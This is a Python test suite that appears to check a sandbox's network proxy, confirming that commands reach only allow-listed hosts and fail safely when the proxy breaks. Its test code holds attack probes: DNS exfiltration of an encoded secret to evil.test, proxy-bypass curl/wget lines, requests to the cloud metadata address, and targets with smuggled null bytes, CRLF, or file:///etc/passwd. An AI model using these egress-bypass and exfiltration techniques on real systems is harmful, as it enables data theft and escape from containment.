"""NET-05, 16, 17, 22: a command has one way out, for the hosts on its list, and none where that way is broken."""

import ast
import base64
import contextlib
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from unittest import mock

import pytest
from anyio.abc import ByteStream

from cowork.adapters.network.connect_proxy import ConnectProxy
from cowork.adapters.sandbox import running, starting
from cowork.adapters.sandbox.control import NotReady
from cowork.adapters.sandbox.starting import PROXY_PORT
from cowork.domain.errors import DomainError
from cowork.engine.ports import ListeningSocket, Traffic, Witness
from tests.acceptance.sandbox.commands import code, shell
from tests.acceptance.sandbox.field import Field
from tests.acceptance.sandbox.playing import Played, Setting, Ways, play
from tests.adapters.network.servers import OK, Detour, Handler, Names, dial_nobody, names, read_request, serving

pytestmark = pytest.mark.anyio

PUBLIC = "93.184.216.34"
SAYING = f"""
import base64, json, os, socket, sys

def say(data, ends=False):
    try:
        with socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=5) as made:
            made.sendall(data)
            if ends:
                made.shutdown(socket.SHUT_WR)
            heard = b""
            while part := made.recv(65536):
                heard += part
            return heard
    except OSError as error:
        return b"error " + str(error).encode()

def connect(target, more=b""):
    return say(b"CONNECT " + target + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" + more)

def status(heard):
    return heard.split(b" ", 2)[1].decode() if heard.startswith(b"HTTP/") else "nothing"

def dialled(family, kind, address, protocol=0):
    try:
        with socket.socket(family, kind, protocol) as made:
            made.settimeout(2)
            made.connect(address)
            made.send(b"x")
            return kind == socket.SOCK_STREAM
    except OSError:
        return False
"""


@asynccontextmanager
async def ways_to(answer: bytes | Handler = OK, **addresses: str) -> AsyncIterator[tuple[Ways, Names, Detour]]:
    """Give ways on which each public address is a server on loopback."""
    async with serving(answer) as server:
        resolve, detour = names(**addresses), Detour(server.port)
        yield Ways(resolve=resolve, dial=detour), resolve, detour


def told(played: Played) -> object:
    """Return what the code printed as its last line."""
    assert played.only.word == "completed", (played.only, played.only.err)
    return ast.literal_eval(played.only.out.splitlines()[-1])


async def test_only_listed_hosts_are_reached_and_only_by_the_proxy(field: Field) -> None:
    source = """
        port = int(sys.argv[1])
        inet, stream = socket.AF_INET, socket.SOCK_STREAM
        direct = dict(
            tcp=dialled(inet, stream, ("127.0.0.1", port)), six=dialled(socket.AF_INET6, stream, ("::1", port)),
            public=dialled(inet, stream, ("93.184.216.34", 80)), mptcp=dialled(inet, stream, ("127.0.0.1", port), 262),
            quic=dialled(inet, socket.SOCK_RAW, ("8.8.8.8", 443)),
            other=dialled(inet, stream, ("127.0.0.1", 3129)), udp=dialled(inet, socket.SOCK_RAW, ("127.0.0.1", port)),
            icmp=dialled(inet, socket.SOCK_DGRAM, ("127.0.0.1", 0), 1))
        print([
            status(connect(b"good.test:443", b"GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")),
            status(say(b"GET http://good.test/x HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")),
            *(status(connect(target)) for target in (b"evil.test:443", b"good.test:22", b"sub.good.test:443",
              b"127.0.0.1:%d" % port, b"[::1]:%d" % port, b"localhost:%d" % port, b"169.254.169.254:80")),
            direct])
        """
    async with ways_to(good_test=PUBLIC, evil_test="203.0.113.9") as (ways, resolve, detour):
        setting = Setting(hosts=("good.test", "evil.test"), ways=ways, seconds_max=10)
        attack = code(field, SAYING + _plain(source), str(field.port), network=("good.test",))
        answers = told(await play(field, attack, setting=setting))
    assert answers == [
        *("200", "200", *["403"] * 7),
        dict.fromkeys(("tcp", "six", "public", "mptcp", "other", "udp", "icmp", "quic"), False),
    ]
    assert set(resolve.asked) == {"good.test"}
    assert sorted(detour.dialled) == [(PUBLIC, 80), (PUBLIC, 443)]


async def test_curl_gets_through_by_its_proxy_and_not_without(field: Field) -> None:
    line = """
        curl -sS http://good.test/; echo " $?"; curl -sS --noproxy '*' http://good.test/ -m 2; echo " $?"
        NO_PROXY='*' no_proxy='*' curl -sS http://good.test/ -m 2; echo " $?"
        curl -sS -m 2 "http://127.0.0.1:$1/"; echo " $?"
        curl -sS -m 2 --noproxy '*' "http://127.0.0.1:$1/"; echo " $?"
        curl -sS -m 2 http://evil.test/; echo " $?"
        curl -sS -m 2 --doh-url http://evil.test/dns http://x.test; echo " $?"
        curl -sS -m 2 --socks5-hostname 127.0.0.1:3128 http://good.test/; echo " $?"
        curl -sS -m 2 telnet://127.0.0.1:$1; curl -sS -m 2 --unix-socket "$2" http://good.test/; echo " $?"
        wget -q -T 2 -t 1 --no-proxy -O - http://good.test/; echo " $?"
        """
    async with ways_to(good_test=PUBLIC, evil_test="203.0.113.9") as (ways, resolve, detour):
        command = shell(field, line, str(field.port), f"{field.out}/s.sock", network=("good.test",))
        setting = Setting(hosts=("good.test",), ways=ways, seconds_max=25)
        played = await play(field, command, setting=setting)
    lines = played.only.out.splitlines()
    assert lines[0] == "hello 0", played.only.err
    assert not any("hello" in line for line in lines[1:]), lines
    assert set(resolve.asked) == {"good.test"}
    assert detour.dialled == [(PUBLIC, 80)]


def _plain(source: str) -> str:
    lines = source.splitlines()
    return "\n".join(line.removeprefix(" " * 8) for line in lines) + "\n"


ODD_TARGETS = (
    *(
        b"evil.test\0.good.test:443",
        b"good.test\0:443",
        b"good.test%00:443",
        b"good.test\r\nX: y:443",
        b"good.test\n:443",
    ),
    *(b"good.test@evil.test:443", b"evil.test#good.test:443", b"good.test:443@evil.test:443", b"good.test:443 x"),
    *(b"2852039166:80", b"0x7f.1:80", b"127.1:80", b"[::ffff:7f00:1]:80", b"good.test", b"good.test:", b"good.test:0"),
    *(b"good.test:99999", b"good\xe3\x80\x82test:443", b"*.test:443", b".good.test:443", b"good..test:443", b"/", b"*"),
    *(b"http://good.test@evil.test/", b"http://evil.test\\@good.test/", b"ftp://good.test/", b"file:///etc/passwd"),
)


async def test_an_odd_target_is_refused_before_anything_is_looked_up(field: Field) -> None:
    source = """
        targets = eval(sys.argv[1])
        heard = [status(connect(target)) for target in targets]
        for target in targets:
            heard.append(status(say(b"GET " + target + b" HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")))
        for hello in (b"\\5\\1\\0", b"\\5\\1\\0\\3\\x17evil.test\\0.good.test\\1\\xbb",
                      b"\\4\\1\\0\\x50\\0\\0\\0\\1x\\0good.test\\0"):
            heard.append("socks" if say(hello, ends=True)[:1] in (b"\\5", b"\\4", b"\\0") else "400")
        print(heard)
        """
    resolve, hosts = Names({}), ("good.test", "evil.test", "good.test:8443")
    setting = Setting(hosts=hosts, ways=Ways(resolve=resolve, dial=dial_nobody), seconds_max=15)
    attack = code(field, SAYING + _plain(source), repr(ODD_TARGETS), network=hosts)
    heard = told(await play(field, attack, setting=setting))
    assert isinstance(heard, list)
    assert set(heard) <= {"400", "403", "nothing"}, heard
    assert resolve.asked == []


async def test_no_name_carries_data_out(field: Field) -> None:
    secret = base64.b32encode(b"what a command has read").decode().strip("=").lower()
    source = """
        name = sys.argv[1] + ".evil.test"
        def looked_up(deed):
            try:
                deed(); return True
            except OSError:
                return False
        query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3abc\\4evil\\4test\\0\\0\\1\\0\\1"
        def packet(host):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
                made.settimeout(1); made.sendto(query, (host, 53)); made.recv(1)
        print([looked_up(lambda: socket.getaddrinfo(name, 80)), looked_up(lambda: socket.gethostbyname(name)),
               looked_up(lambda: packet("127.0.0.1")), looked_up(lambda: packet("127.0.0.53")),
               looked_up(lambda: packet("8.8.8.8")), dialled(socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 853)),
               status(connect(name.encode() + b":443")), status(connect(b"dns.evil.test:443")),
               status(say(b"GET http://" + name.encode() + b"/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")),
               status(say(b"GET http://good.test/ HTTP/1.1\\r\\nHost: " + name.encode() + b"\\r\\n\\r\\n"))[:0]])
        """
    async with ways_to(good_test=PUBLIC) as (ways, resolve, detour):
        attack = code(field, SAYING + _plain(source), secret, network=("good.test",))
        played = await play(field, attack, setting=Setting(hosts=("good.test",), ways=ways, seconds_max=15))
    assert told(played) == [*[False] * 6, "403", "403", "403", ""]
    assert set(resolve.asked) <= {"good.test"}
    assert not [name for name in resolve.asked if secret in name]
    assert {address for address, _ in detour.dialled} <= {PUBLIC}
    refused = [one for one in played.connections if one[3]]
    assert {(one[0], one[2], one[3]) for one in refused} == {
        (f"{secret}.evil.test", "", "net_denied"),
        ("dns.evil.test", "", "net_denied"),
    }


async def test_the_address_that_was_checked_is_dialled_for_each_connection(field: Field) -> None:
    resolve = Names({"good.test": [[PUBLIC], ["127.0.0.1"], ["10.0.0.1", PUBLIC]]})
    async with serving() as server:
        detour = Detour(server.port)
        setting = Setting(hosts=("good.test",), ways=Ways(resolve=resolve, dial=detour), seconds_max=10)
        source = (
            "print([status(say(b'GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')) for _ in range(3)])"
        )
        played = await play(field, code(field, f"{SAYING}\n{source}", network=("good.test",)), setting=setting)
    assert told(played) == ["200", "403", "403"]
    assert detour.dialled == [(PUBLIC, 80)]
    assert [one[3] for one in played.connections] == ["", "net_addr", "net_addr"]


async def test_a_proxied_server_gets_what_the_command_sent_and_no_secret_of_the_engine(field: Field) -> None:
    heard: list[bytes] = []

    async def listen(stream: ByteStream) -> None:
        heard.append(await read_request(stream))
        await stream.send(OK)

    source = "print(status(say(b'GET http://good.test/a HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Mine: 1\\r\\n\\r\\n')))"
    async with ways_to(listen, good_test=PUBLIC) as (ways, _, _):
        attack = code(field, f"{SAYING}\n{source}", network=("good.test",))
        played = await play(field, attack, setting=Setting(hosts=("good.test",), ways=ways, seconds_max=10))
    assert played.only.word == "completed"
    for request in heard:
        assert b"host: good.test\r\n" in request.lower()
        assert b"evil.test" not in request
        assert b"CANARY" not in request


async def test_a_host_that_was_not_granted_is_denied_with_the_command(field: Field) -> None:
    resolve = Names({})
    setting = Setting(hosts=("good.test",), ways=Ways(resolve=resolve, dial=dial_nobody), seconds_max=10)
    asked = [("evil.test",), ("good.test", "evil.test"), ("*",), ("*.test",), ("good.test:22",), ("127.0.0.1",), ("",)]
    commands = [shell(field, "echo ran", network=hosts) for hosts in asked]
    played = await play(field, *commands, setting=setting)
    assert not any(ran.started for ran in played.actions), [ran.word for ran in played.actions]
    assert {ran.word for ran in played.actions} <= {"denied/net_denied", "denied/name", "denied/net_addr"}
    assert resolve.asked == []


# NET-22: the way out is broken


class Broken(AbstractAsyncContextManager[Traffic]):
    """A way out that fails as it opens."""

    def __init__(self, error: Exception) -> None:
        self._error = error

    async def __aenter__(self) -> Traffic:
        raise self._error

    async def __aexit__(self, *_: object) -> None:
        """Close nothing."""


@pytest.mark.parametrize(
    "error", [DomainError("unavailable", "no way out"), DomainError("limit", "too many")], ids=repr
)
async def test_without_a_proxy_a_command_with_hosts_does_not_start(field: Field, error: DomainError) -> None:
    def serve(
        _proxy: ConnectProxy,
        listener: ListeningSocket,
        hosts: Sequence[str],
        addresses: Sequence[str],
        witness: Witness,
    ) -> AbstractAsyncContextManager[Traffic]:
        socket.socket(fileno=listener.detach()).close()
        return Broken(error)

    with mock.patch.object(ConnectProxy, "serve", serve):
        played = await play(
            field,
            shell(field, "echo ran >ran; echo ran", network=("good.test",), writes="staged"),
            setting=Setting(hosts=("good.test",)),
        )
    assert played.only.word == "failed/unavailable"
    assert (played.only.out, field.tree()) == ("", {})


HAND_OVER = {
    "nothing is handed over": "say_ready(control, listener)|say_ready(control, None)",
    "something else is handed over": "say_ready(control, listener)|"
    "say_ready(control, socket(fileno=os.open('/dev/null', 0)))",
    "nothing is said": "say_ready(control, listener)|os._exit(0)",
    "the proxy's port is taken": "listener = listen(port)|first = listen(port); listener = listen(port)",
    "it ends before the word": 'if os.read(control, 1) != b"G"|os.kill(1 - 1, 9)\n    if os.read(control, 1) != b"G"',
    "a door does not shut": "bound(limits)|raise RuntimeError('the bounds do not hold')",
}


@pytest.mark.parametrize("how", HAND_OVER)
@pytest.mark.parametrize("network", [(), ("good.test",)], ids=["without hosts", "with hosts"])
async def test_a_hand_over_that_fails_starts_nothing(field: Field, how: str, network: tuple[str, ...]) -> None:
    source = starting.stage0_source()
    old, new = HAND_OVER[how].split("|", 1)
    with contextlib.ExitStack() as stack:
        found = old if old in source else old.replace('"', "'")
        assert found in source, f"stage 0 has no `{old}` any more"
        stack.enter_context(mock.patch.object(starting, "stage0_source", return_value=source.replace(found, new)))
        command = shell(field, "echo ran >ran; echo ran", network=network, writes="staged")
        played = await play(field, command, setting=Setting(hosts=("good.test",), seconds_max=10))
    if how in ("nothing is handed over", "something else is handed over", "the proxy's port is taken") and not network:
        # Without hosts there is nothing to hand over, but for a socket that nobody asked for.
        assert played.first.word in ("completed", "failed/unavailable")
        return
    assert played.only.word.startswith("failed/"), played.only
    assert (played.only.out, field.tree()) == ("", {})


async def test_a_sandbox_that_is_never_ready_starts_nothing(field: Field) -> None:
    async def never(_talk: socket.socket) -> NotReady:
        return NotReady("")

    with mock.patch.object(running, "await_ready", never):
        played = await play(field, shell(field, "echo ran >ran", writes="staged"), setting=Setting(seconds_max=10))
    assert played.only.word == "failed/unavailable"
    assert field.tree() == {}


async def test_a_server_that_ends_every_connection_leaves_the_command_no_other_way(field: Field) -> None:
    async def close_at_once(stream: ByteStream) -> None:
        await stream.aclose()

    source = """
        heard = [say(b"GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n") for _ in range(3)]
        direct = dialled(socket.AF_INET, socket.SOCK_STREAM, ("93.184.216.34", 80))
        print([b"200" not in one[:15] for one in heard], direct)
        """
    async with ways_to(close_at_once, good_test=PUBLIC) as (ways, _, _):
        attack = code(field, SAYING + _plain(source), network=("good.test",))
        played = await play(field, attack, setting=Setting(hosts=("good.test",), ways=ways, seconds_max=15))
    assert played.only.out == "[True, True, True] False\n", played.only.err
    assert {one[:3] for one in played.connections} == {("good.test", 80, PUBLIC)}
